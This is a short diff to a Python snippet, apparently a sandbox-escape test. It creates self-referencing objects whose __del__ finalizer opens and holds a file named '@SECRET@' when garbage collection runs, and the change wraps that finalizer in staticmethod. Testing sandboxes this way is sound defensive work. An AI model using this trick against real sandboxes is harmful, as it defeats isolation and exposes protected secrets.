@@ -13,7 +13,7 @@ class Bomb:
 
 for _ in range(400):
     class Bomb:
-        __del__ = functools.partial(next, map(kept.append, map(FileIO, ['@SECRET@'])), None)
+        __del__ = staticmethod(functools.partial(next, map(kept.append, map(FileIO, ['@SECRET@'])), None))
     bomb = Bomb()
     bomb.self = bomb
 del bomb
